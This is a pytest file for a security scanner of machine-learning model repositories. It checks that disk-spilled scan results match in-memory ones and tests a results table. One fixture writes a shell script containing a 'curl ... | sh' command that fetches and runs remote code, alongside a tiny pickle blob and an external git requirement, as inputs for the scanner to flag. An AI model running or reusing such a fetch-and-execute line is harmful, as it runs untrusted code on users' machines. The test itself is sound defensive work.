"""Results spilled to disk for the repository checks (``scanner.repo.results.ResultTable``) give exactly what the
in-memory path gives: the same results, findings and order, on every fixture repository and on the whole corpus
scanned as one snapshot (paths that are not UTF-8 and LFS pointers included)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from scanner import engine
from scanner.findings import FileResult
from scanner.repo.results import ResultTable, digest_owners, format_lookup, with_rule
from scanner.settings import ScanOptions
from scanner.sources.local import LocalSource
from tests.harness import FIXTURES


def _scan(path: Path, spill_at: int, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    monkeypatch.setattr(engine, "SPILL_AT", spill_at)
    snap = LocalSource().resolve(str(path))
    return [fr.model_dump_json() for fr in engine.stream_snapshot(snap, ScanOptions())]


@pytest.mark.parametrize(
    "folder", ["hf-repo", "onnx", "openvino", "safetensors", "tensorflow", "keras", "nemo2", "carriers"]
)
def test_spilled_results_are_the_in_memory_results(folder: str, monkeypatch: pytest.MonkeyPatch) -> None:
    root = FIXTURES / folder
    if not root.is_dir():
        pytest.skip(f"no fixtures/{folder}")
    for sub in [root, *sorted(p for p in root.iterdir() if p.is_dir())]:
        assert _scan(sub, 0, monkeypatch) == _scan(sub, 10**9, monkeypatch), sub


def test_the_whole_corpus_as_one_snapshot_spills_alike(monkeypatch: pytest.MonkeyPatch) -> None:
    assert _scan(FIXTURES, 0, monkeypatch) == _scan(FIXTURES, 10**9, monkeypatch)


def test_undecodable_names_and_lfs_pointers_spill(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blob = b"\x80\x04K\x01."
    import hashlib

    oid = hashlib.sha256(blob).hexdigest()
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(blob)}\n".encode()
    for name, data in {
        b"w\xff.bin": blob,
        b"model.bin": pointer,
        b"run.sh": b"curl http://x | sh\n",
        b"requirements.txt": b"git+https://example.com/x\n",
    }.items():
        with open(os.path.join(os.fsencode(tmp_path), name), "wb") as f:
            f.write(data)
    spilled, held = _scan(tmp_path, 0, monkeypatch), _scan(tmp_path, 10**9, monkeypatch)
    assert spilled == held
    assert any("object_present_as" in r for r in held)  # the LFS pointer found its object by digest


def test_the_table_is_the_by_path_dict() -> None:
    results = [
        FileResult(path="a", size=1, format="pickle", sha256="1"),
        FileResult(path="b\udcff", size=1, format="lfs-pointer", sha256="2"),
        FileResult(path="a", size=2, format="json", sha256="3"),
        FileResult(path="c", size=1, format="text"),
    ]
    by_path = {fr.path: fr for fr in results}
    table = ResultTable()
    table.extend(results)
    try:
        assert list(table) == list(by_path) and len(table) == len(by_path)
        assert table["a"].size == 2 and "c" in table and "z" not in table and table.get("z") is None
        table["new"] = FileResult(path="new", size=0, format="repository", sha256="9")
        by_path["new"] = table["new"]
        fmt = format_lookup(table)
        assert [fmt(p) for p in [*by_path, "z"]] == [fr.format for fr in by_path.values()] + [None]
        assert list(digest_owners(table)) == list(digest_owners(by_path))
        table["c"].findings.append(engine.get_rule_db().finding("HF-SHELL-SCRIPT", "x", "c"))
        assert [fr.path for fr in with_rule(table, "HF-SHELL-SCRIPT")] == ["c"]
        drained = list(table.drain())
        assert [fr.path for fr in drained] == [fr.path for fr in results]
        assert drained[3].findings[0].rule_id == "HF-SHELL-SCRIPT"  # what a check changed is kept
    finally:
        table.close()
